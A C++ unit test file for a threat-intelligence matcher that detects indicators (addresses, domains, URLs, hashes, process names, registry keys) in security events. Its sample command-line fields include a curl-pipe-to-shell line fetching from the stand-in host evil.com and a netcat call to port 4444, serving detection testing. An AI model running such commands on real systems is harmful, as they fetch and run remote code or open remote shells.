#include "intel/event_matcher.hpp"

#include <gtest/gtest.h>

#include <atomic>
#include <thread>

#include "intel/live_indicators.hpp"
#include "intel_test_util.hpp"

namespace yagura::intel {
namespace {

using testing::A;
using testing::EventBuilder;
using testing::MatchIds;
using testing::One;
using testing::Snapshot;
using OT = ObservableType;
using Ids = std::vector<std::string>;

constexpr int64_t NOW = 1'800'000'000'000;

class IntelMatcherTest : public ::testing::Test {
 protected:
  IntelMatcherTest() : matcher_(catalog_), events_(catalog_) {}
  std::shared_ptr<const IndicatorIndex> Index(std::vector<Indicator> indicators) {
    IndexOptions options;
    options.now_ms = NOW;
    return IndicatorIndex::Build({Snapshot(std::move(indicators))}, options);
  }
  event::FieldCatalog catalog_;
  IntelMatcher matcher_;
  EventBuilder events_;
};

TEST_F(IntelMatcherTest, AddressesInAddressFieldsWithDirection) {
  auto index = Index({One("any", A(OT::kIpv4, "203.0.113.9")),
                      One("dst-only", A(OT::kIpv4, "198.51.100.0/24", Direction::kDestination)),
                      One("v6", A(OT::kIpv6, "2001:db8::66"))});
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"DestinationIp", "203.0.113.9"}})),
            Ids{"any"});
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"DestinationIp", "198.51.100.20"}})),
            Ids{"dst-only"});
  EXPECT_TRUE(MatchIds(matcher_, *index, events_.Make({{"SourceIp", "198.51.100.20"}})).empty());
  // Windows writes IPv4 clients as IPv4-mapped IPv6.
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"IpAddress", "::ffff:203.0.113.9"}})),
            Ids{"any"});
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"id.resp_h", "2001:DB8:0::66"}})),
            Ids{"v6"});
}

TEST_F(IntelMatcherTest, FreeTextTokensRespectBoundaries) {
  auto index = Index({One("dom", A(OT::kDomain, "evil.com")),
                      One("ip", A(OT::kIpv4, "192.0.2.10")),
                      One("mail", A(OT::kEmail, "Boss@Evil.com"))});
  auto cmd = [&](const char* text) {
    return MatchIds(matcher_, *index, events_.Make({{"CommandLine", text}}));
  };
  EXPECT_EQ(cmd("curl -s http://evil.com/x.sh | sh"), Ids{"dom"});
  EXPECT_EQ(cmd("ping cdn.evil.com"), Ids{"dom"});
  EXPECT_TRUE(cmd("ping notevil.com").empty());
  EXPECT_TRUE(cmd("ping evil.com.example.net").empty());
  EXPECT_TRUE(cmd("ping evil.community").empty());
  EXPECT_EQ(cmd("nc 192.0.2.10:4444"), Ids{"ip"});
  EXPECT_TRUE(cmd("nc 192.0.2.100").empty());
  EXPECT_TRUE(cmd("version 1.192.0.2.10").empty());
  EXPECT_EQ(cmd("sendmail boss@evil.com"), (Ids{"dom", "mail"}));
}

TEST_F(IntelMatcherTest, DomainsInAnyCaseWithATrailingDot) {
  // Names whose last label no domain indicator has ("report.txt") are skipped before
  // normalising; upper case and a trailing dot must not count as another label.
  auto index = Index({One("dom", A(OT::kDomain, "evil.example"))});
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"QueryName", "CDN.EVIL.EXAMPLE.\t"}})),
            Ids{"dom"});
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"CommandLine", "nslookup Evil.Example."}})),
            Ids{"dom"});
  EXPECT_TRUE(
      MatchIds(matcher_, *index, events_.Make({{"CommandLine", "type evil.example.txt"}})).empty());
}

TEST_F(IntelMatcherTest, UrlsAreNormalisedOnBothSides) {
  auto index = Index({One("url", A(OT::kUrl, "http://Evil.Example:80/a%7eb?q=1"))});
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"url", "HTTP://evil.example/a~b?q=1"}})),
            Ids{"url"});
  EXPECT_EQ(MatchIds(matcher_, *index,
                     events_.Make({{"CommandLine", "iwr 'http://EVIL.example:80/a%7Eb?q=1'"}})),
            Ids{"url"});
  EXPECT_TRUE(
      MatchIds(matcher_, *index, events_.Make({{"url", "http://evil.example/a~b?q=2"}})).empty());
}

TEST_F(IntelMatcherTest, HashesWhereSysmonPutsThem) {
  const std::string sha256 = "A3766E4D58E72E310275DFF6C15C0C8E9DF469611A11F5125227C3712DA86A78";
  const std::string md5 = "077021721a278f64f7fd633dbdde131c";
  auto index = Index({One("sha", A(OT::kHash, sha256, Direction::kAny, HashAlgorithm::kSha256)),
                      One("md5", A(OT::kHash, md5, Direction::kAny, HashAlgorithm::kMd5))});
  auto& event = events_.Make(
      {{"Hashes", "SHA1=853964B50AF03B971722F244F58D669CBEE3772A,MD5=077021721A278F64F7FD633DBDDE131C,"
                  "SHA256=" + sha256 + ",IMPHASH=C49EA20E32684B27B95E909348334896"}});
  IntelMatcher::Scratch scratch;
  matcher_.Match(*index, event, scratch);
  ASSERT_EQ(scratch.matches().size(), 2u);
  // In indicator order; the matched value is the digest alone, as written in the event.
  EXPECT_EQ(scratch.hits()[scratch.matches()[0].first_hit].value, sha256);
  EXPECT_EQ(scratch.hits()[scratch.matches()[1].first_hit].value,
            "077021721A278F64F7FD633DBDDE131C");
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"CommandLine", "certutil -hashfile x " + md5}})),
            Ids{"md5"});
  // A longer hex run is not a hash that contains one.
  EXPECT_TRUE(MatchIds(matcher_, *index, events_.Make({{"CommandLine", md5 + "00"}})).empty());
}

TEST_F(IntelMatcherTest, ConjunctionsNeedEveryAtomAndNoNegatedOne) {
  Indicator both;
  both.id = "both";
  both.any_of.push_back({A(OT::kFileName, "Dropper.EXE"),
                         A(OT::kHash, "077021721a278f64f7fd633dbdde131c", Direction::kAny,
                           HashAlgorithm::kMd5)});
  Indicator not_internal;
  not_internal.id = "not-internal";
  not_internal.any_of.push_back({A(OT::kDomain, "update.example"),
                                 A(OT::kIpv4, "10.0.0.0/8", Direction::kAny,
                                   HashAlgorithm::kNone, true)});
  auto index = Index({std::move(both), std::move(not_internal)});
  const std::string hashes = "MD5=077021721A278F64F7FD633DBDDE131C";
  EXPECT_EQ(MatchIds(matcher_, *index,
                     events_.Make({{"Image", "C:\\Users\\a\\dropper.exe"}, {"Hashes", hashes}})),
            Ids{"both"});
  EXPECT_TRUE(MatchIds(matcher_, *index,
                       events_.Make({{"Image", "C:\\Windows\\notepad.exe"}, {"Hashes", hashes}}))
                  .empty());
  EXPECT_TRUE(
      MatchIds(matcher_, *index, events_.Make({{"Image", "C:\\Users\\a\\dropper.exe"}})).empty());
  EXPECT_EQ(MatchIds(matcher_, *index,
                     events_.Make({{"QueryName", "update.example"}, {"SourceIp", "192.0.2.1"}})),
            Ids{"not-internal"});
  EXPECT_TRUE(MatchIds(matcher_, *index,
                       events_.Make({{"QueryName", "update.example"}, {"SourceIp", "10.1.1.1"}}))
                  .empty());
}

TEST_F(IntelMatcherTest, ProcessNamesRegistryKeysAndUserAgents) {
  auto index = Index({One("proc", A(OT::kProcessName, "mimikatz.exe")),
                      One("key", A(OT::kRegistryKey, "HKCU\\Software\\Evil")),
                      One("ua", A(OT::kUserAgent, "EvilBot/1.0"))});
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"Image", "C:\\Temp\\MIMIKATZ.EXE"}})),
            Ids{"proc"});
  EXPECT_TRUE(
      MatchIds(matcher_, *index, events_.Make({{"TargetFilename", "C:\\Temp\\mimikatz.exe"}}))
          .empty());  // a process name, not a file written
  EXPECT_EQ(MatchIds(matcher_, *index,
                     events_.Make({{"TargetObject", "HKEY_CURRENT_USER\\SOFTWARE\\Evil\\Run"}})),
            Ids{"key"});
  EXPECT_EQ(MatchIds(matcher_, *index, events_.Make({{"cs(User-Agent)", "EvilBot/1.0"}})),
            Ids{"ua"});
}

TEST_F(IntelMatcherTest, OneAlertPerIndicatorListingEachPlace) {
  auto index = Index({One("ip", A(OT::kIpv4, "192.0.2.10"))});
  IntelMatcher::Scratch scratch;
  matcher_.Match(*index, events_.Make({{"DestinationIp", "192.0.2.10"},
                                       {"CommandLine", "nc 192.0.2.10 80"}}),
                 scratch);
  ASSERT_EQ(scratch.matches().size(), 1u);
  EXPECT_EQ(scratch.matches()[0].hit_count, 2u);
}

TEST_F(IntelMatcherTest, RememberedMissesBelongToTheirIndex) {
  // A value that found nothing is not looked up again in the same index, but a new index
  // (even one allocated where the old one was) looks it up afresh.
  IntelMatcher::Scratch scratch;
  for (int round = 0; round < 3; ++round) {
    auto empty = Index({One("other", A(OT::kDomain, "other.example"))});
    auto& event = events_.Make({{"QueryName", "evil.example"}, {"DestinationIp", "192.0.2.7"}});
    matcher_.Match(*empty, event, scratch);
    EXPECT_TRUE(scratch.matches().empty());
    matcher_.Match(*empty, event, scratch);
    EXPECT_TRUE(scratch.matches().empty());
    empty.reset();
    auto full = Index({One("dom", A(OT::kDomain, "evil.example")), One("ip", A(OT::kIpv4, "192.0.2.7"))});
    matcher_.Match(*full, events_.Make({{"QueryName", "evil.example"}, {"DestinationIp", "192.0.2.7"}}),
                   scratch);
    EXPECT_EQ(scratch.matches().size(), 2u) << "round " << round;
  }
}

TEST_F(IntelMatcherTest, LiveSwapWhileMatching) {
  // Readers match continuously while the set is replaced many times: every event sees either
  // the old set or the new one, never a mix or a half-built index.
  LiveIndicators live;
  auto make = [](const std::string& value) {
    return std::vector<std::shared_ptr<const FeedSnapshot>>{
        Snapshot({One("gen-" + value, A(OT::kDomain, value + ".example"))})};
  };
  live.Publish(make("a"));
  std::atomic<bool> stop = false;
  std::atomic<uint64_t> matched = 0, events = 0;
  auto reader = [&](event::FieldCatalog& catalog) {
    IntelMatcher matcher(catalog);
    EventBuilder builder(catalog);
    IntelMatcher::Scratch scratch;
    while (!stop) {
      auto index = live.Current();
      auto& event = builder.Make({{"QueryName", "a.example"}, {"DestinationHostname", "b.example"}});
      matcher.Match(*index, event, scratch);
      // Exactly one of the two names is in any published set.
      if (scratch.matches().size() == 1) ++matched;
      ++events;
    }
  };
  event::FieldCatalog catalog_one, catalog_two;
  std::thread one(reader, std::ref(catalog_one)), two(reader, std::ref(catalog_two));
  for (int i = 0; i < 200 || events < 10000; ++i) live.Publish(make(i % 2 ? "a" : "b"));
  stop = true;
  one.join();
  two.join();
  EXPECT_GT(events.load(), 0u);
  EXPECT_EQ(matched.load(), events.load());
}

}  // namespace
}  // namespace yagura::intel
